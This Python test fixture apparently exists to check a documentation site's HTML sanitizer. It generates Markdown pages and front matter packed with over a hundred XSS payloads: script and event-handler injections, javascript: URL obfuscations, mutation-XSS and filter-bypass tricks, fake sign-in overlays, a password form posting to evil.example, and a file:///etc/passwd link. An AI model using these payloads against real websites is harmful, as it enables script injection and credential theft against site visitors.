"""What an attacker might write into a page, and a project that holds it all, built as a preview builds it.

A preview goes on where a build would stop, and its policy lets inline scripts run: what stays harmless there
is harmless by the page's text alone. `GO` is what a payload runs, `THEM` another host.
"""

from __future__ import annotations

import json
import os
import re
import sys
from pathlib import Path

ROOT = Path(__file__).parents[2]
GO = "top.pwned=1"
THEM = "https://evil.example"

BODY = {
    "script": "<script>GO</script>",
    "script with a file": "<script src=THEM/a.js></script>",
    "script within a word": "a<script>GO</script>b",
    "script in capitals": "<ScRiPt>GO</sCrIpT>",
    "script that is never closed": "<script>GO",
    "script in halves": "<scr<script>ipt>GO</scr</script>ipt>",
    "svg": "<svg onload=GO></svg>",
    "svg with a script": "<svg><script>GO</script></svg>",
    "svg that is moved": "<svg><animate onbegin=GO attributeName=x dur=1s></svg>",
    "svg link": '<svg><a xlink:href="javascript:GO"><text x="20" y="20">x</text></a></svg>',
    "svg use": "<svg><use href='THEM/a.svg#x'></use></svg>",
    "svg style": "<svg><style>*{background:url(THEM/a)}</style></svg>",
    "svg foreign": "<svg><foreignObject><img src=x onerror=GO></foreignObject></svg>",
    "math": "<math><mtext><table><mglyph><style><img src=x onerror=GO></style></mglyph></table></mtext></math>",
    "math link": '<math><maction actiontype="statusline#" xlink:href="javascript:GO">x</maction></math>',
    "picture": "<img src=x onerror=GO>",
    "picture with a slash": "<img/src=x/onerror=GO>",
    "picture in words": "See <img src=x onerror=GO> here.",
    "picture with backticks": "<img src=`x` onerror=GO>",
    "picture with quotes": '<img """><script>GO</script>">',
    "picture elsewhere": "<img src=THEM/a.png>",
    "picture without a scheme": "<img src=//evil.example/a.png>",
    "picture with backslashes": "<img src='\\\\evil.example\\a.png'>",
    "picture with a tab": "<img src='/\t/evil.example/a.png'>",
    "picture set": "<img srcset='THEM/a.png 2x' src=a.png>",
    "picture source": "<picture><source srcset='THEM/a.png'><img src=a.png></picture>",
    "picture in Markdown": "![a](THEM/a.png)",
    "picture by reference": "![a][b]\n\n[b]: THEM/a.png",
    "picture of data": "![a](data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+)",
    "video": "<video src=x onerror=GO></video>",
    "video poster": "<video poster=THEM/a.png></video>",
    "video source": "<video><source src=x onerror=GO></video>",
    "audio": "<audio src=THEM/a.mp3 autoplay></audio>",
    "details": '<details open title=">" ontoggle=GO><summary>a</summary>b</details>',
    "details in Markdown": '??? note "a <img src=x onerror=GO>"\n    b',
    "admonition": '!!! note "a <img src=x onerror=GO>"\n    b',
    "admonition class": '!!! md-overlay "a"\n    b',
    "frame": "<iframe src=javascript:GO></iframe>",
    "frame with a document": '<iframe srcdoc="<script>GO</script>"></iframe>',
    "object": "<object data=javascript:GO></object>",
    "embed": "<embed src=javascript:GO>",
    "base": "<base href=THEM/>",
    "refresh": '<meta http-equiv="refresh" content="0;url=THEM">',
    "policy": '<meta http-equiv="Content-Security-Policy" content="script-src *">',
    "stylesheet": "<link rel=stylesheet href=THEM/a.css>",
    "prefetch": "<link rel=dns-prefetch href=THEM>",
    "import": "<link rel=modulepreload href=THEM/a.js>",
    "style": "<style>@import url(THEM/a.css)</style>",
    "style that is escaped": "<style>*{background:\\75\\72\\6c(THEM/a)}</style>",
    "style attribute": '<p style="background:url(THEM/a)">a</p>',
    "style attribute, escaped": '<p style="background:\\75\\72\\6c(THEM/a)">a</p>',
    "style over the page": '<p style="position:fixed;inset:0;z-index:9999;background:#fff">Sign in</p>',
    "class over the page": '<div class="md-overlay md-search__overlay">a</div>',
    "class by an attribute list": "a\n{: .md-dialog .md-top }",
    "dialog": "<dialog open>Sign in</dialog>",
    "popover": "<div popover=manual id=p>a</div>",
    "marquee": "<marquee onstart=GO>a</marquee>",
    "body": "<body onload=GO>",
    "html": "<html onclick=GO>",
    "focus": "<a href=# autofocus onfocus=GO>a</a>",
    "edit": "<p contenteditable onfocus=GO>a</p>",
    "input": "<input autofocus onfocus=GO>",
    "form": "<form action=THEM><input name=password><button>Sign in</button></form>",
    "button": "<button formaction=javascript:GO>a</button>",
    "link": "[a](javascript:GO)",
    "link in capitals": "[a](JaVaScRiPt:GO)",
    "link with a tab": "[a](java&#9;script:GO)",
    "link with a new line": "[a](java&#10;script:GO)",
    "link with a null": "[a](java&#0;script:GO)",
    "link with an entity": "[a](&#106;avascript:GO)",
    "link with a named colon": "[a](javascript&colon;GO)",
    "link with a blank": "[a](<&#1;javascript:GO>)",
    "link in pointed brackets": "[a](<javascript:GO>)",
    "link by itself": "<javascript:GO>",
    "link by reference": "[a][b]\n\n[b]: javascript:GO",
    "link in HTML": '<a href=" javascript:GO">a</a>',
    "link of data": "[a](data:text/html,<script>GO</script>)",
    "link of vbscript": "[a](vbscript:GO)",
    "link of a file": "[a](file:///etc/passwd)",
    "link with a title": '[a](b.md "x" onclick="GO")',
    "link that pings": "<a href=# ping=THEM>a</a>",
    "link with a target": "<a href=# target=_top onclick=GO>a</a>",
    "attribute list": "a\n{: onclick=GO }",
    "attribute list, many blanks": "a\n{: onclick          =GO }",
    "attribute list on a word": "**a**{: onmouseover=GO }",
    "attribute list on a link": "[a](#){: onclick=GO }",
    "attribute list on a picture": "![a](x.png){: onerror=GO }",
    "attribute list on a heading": "## X {:onclick=GO}",
    "attribute list on code": "`a`{: onclick=GO }",
    "attribute list on a fence": "``` { .yaml onclick=GO }\na\n```",
    "attribute list on a block": '{{ figure("aht-account") }}{: onclick=GO }',
    "attribute list, table": "| a | b |\n| - | - |\n| c {: onclick=GO } | d |",
    "ten blanks before the sign": "<p onclick          =GO>a</p>",
    "comment in code": "`<!--` <img src=x onerror=GO> `-->`",
    "comment that ends early": "<!--> <img src=x onerror=GO> -->",
    "comment in a comment": "<!-- <!-- --> <img src=x onerror=GO> -->",
    "false fence": "    ```\n\n<img src=x onerror=GO>\n\n    ```",
    "fence that is closed": "````\n```\n````\n<img src=x onerror=GO>",
    "escaped backtick": "\\`<img src=x onerror=GO>\\`",
    "code in a heading": "## `</code><img src=x onerror=GO>`",
    "heading": "## a <img src=x onerror=GO>",
    "heading label": '## a {: data-toc-label="<img src=x onerror=GO>" }',
    "list": "- a\n- <img src=x onerror=GO>",
    "definition": "a\n:   <img src=x onerror=GO>",
    "abbreviation": '*[abc]: x" onmouseover="GO\n\nabc',
    "abbreviation of HTML": "*[abc]: <img src=x onerror=GO>\n\nabc",
    "keys": "++ctrl+<img src=x onerror=GO>++",
    "markdown in HTML": '<div markdown="1" onclick="GO">\n**a**\n</div>',
    "plaintext": "<plaintext>a",
    "noscript": '<noscript><p title="</noscript><img src=x onerror=GO>"></noscript>',
    "title": '<title><p title="</title><img src=x onerror=GO>">',
    "textarea": '<textarea><p title="</textarea><img src=x onerror=GO>">',
    "select": "<select><option><img src=x onerror=GO></option></select>",
    "template": "<template><img src=x onerror=GO></template>",
    "xmp": '<xmp><p title="</xmp><img src=x onerror=GO>">',
    "article that ends": "</article></div></main><script>GO</script>",
    "name of a setting": '<p id="__config">{"base": "THEM"}</p>',
    "name of a form": '<img name="getElementById"><form id="__search"></form>',
    "our search box": '<desk-search data-ask="javascript:GO" data-root="THEM/">a</desk-search>',
    "our decision": '<desk-tree data-tree="x" onclick="GO"></desk-tree>',
    "shadow": "<div><template shadowrootmode=open><img src=x onerror=GO></template></div>",
    "processing": "<?xml-stylesheet href='THEM/a.css'?><img src=x onerror=GO>",
    "cdata": "<![CDATA[<img src=x onerror=GO>]]>",
    "table background": "<table background=THEM/a.png><tr><td background=THEM/b.png>a</td></tr></table>",
    "area": "<map name=m><area href=javascript:GO shape=default></map><img usemap=#m src=a.png>",
    "quote": "<blockquote cite=javascript:GO onmouseenter=GO>a</blockquote>",
}
"""Name → Markdown of a page's text."""

HTML = {
    "svg": "x<svg onload=GO></svg>",
    "picture": "<img src=x onerror=GO>",
    "end of an attribute": '"><script>GO</script>',
    "attribute": '" onmouseover="GO" x="',
    "end of a title": "</title><script>GO</script>",
    "end of a script": "</script><script>GO</script>",
    "end of an article": "</span></a></nav><img src=x onerror=GO>",
    "entities": "&lt;img src=x onerror=GO&gt;",
    "comment": "--><img src=x onerror=GO>",
}
FIELDS = ("title", "description", "author", "subtitle", "summary")
META = {f"{field}: {name}": {field: text} for field in FIELDS for name, text in HTML.items()} | {
    "tags": {"tags": [HTML["picture"], HTML["attribute"]]},
    "status": {"status": HTML["attribute"]},
    "status, element": {"status": HTML["picture"]},
    "template": {"template": "redirect.html", "location": "javascript:GO"},
    "template of a part": {"template": "partials/javascripts/consent.html"},
    "canonical": {"canonical_url": "javascript:GO"},
    "search": {"search": {"boost": HTML["picture"]}},
}
"""Name → front matter."""

AS_TEXT = frozenset(
    {*(f"{field}: {name}" for field in ("title", "description") for name in HTML), "tags"},
)
"""The front matter that is taken, since it is words; all other is a finding, and no value of it is printed."""

NAMES = ["x<img src=x onerror=GO>", 'x" onmouseover="GO', "x'><svg onload=GO>"]
"""Names of files, without their ending: each is a finding, and nothing of it reaches the site."""


def meant(text: str) -> str:
    return text.replace("GO", GO).replace("THEM", THEM)


def project(folder: Path) -> dict[str, str]:
    """Write the project; name of each payload that is built → its page, as the path below the site's address."""
    sys.path.insert(0, str(ROOT / "benchmarks"))
    import corpus

    corpus.project(folder, 2)
    procedure = folder / "docs/sops/case-00001.md"
    title = meant(json.dumps(f"Verify the case {HTML['picture']}"))
    procedure.write_text(re.sub("^title: .*$", f"title: {title}", procedure.read_text(), flags=re.MULTILINE))
    place = folder / "docs/hostile"
    place.mkdir()
    pages = {}

    def page(name: str, stem: str, front: dict[str, object], body: str) -> None:
        title = front.pop("title", name)
        lines = "".join(
            f"{key}: {meant(json.dumps(value))}\n" for key, value in {"title": title, **front}.items()
        )
        (place / f"{stem}.md").write_text(f"---\n{lines}---\n{meant(body)}\n")
        pages[name] = f"hostile/{stem}/"

    for number, (name, body) in enumerate(BODY.items()):
        page(f"body: {name}", f"body-{number:03}", {}, body)
    for number, (name, front) in enumerate(META.items()):
        page(name, f"meta-{number:03}", dict(front), "Text.")
    for name in NAMES:
        (place / f"{meant(name)}.md").write_text("A page that is refused.\n")
    return pages


def build(folder: Path, site: Path) -> None:
    """Build as a preview does: what is wrong is told, and the build goes on."""
    from mkdocs.commands.build import build as built
    from mkdocs.config import load_config

    from deskbook.site import gate

    os.chdir(folder)
    config = load_config(str(folder / "mkdocs.yml"), site_dir=str(site), strict=False)
    config.plugins.on_startup(command="serve", dirty=False)
    gate.on_startup(command="serve", dirty=False)
    built(config)


if __name__ == "__main__":
    out = Path(sys.argv[1])
    (out / "pages.json").write_text(json.dumps(project(out / "project"), indent=1))
    build(out / "project", out / "site")
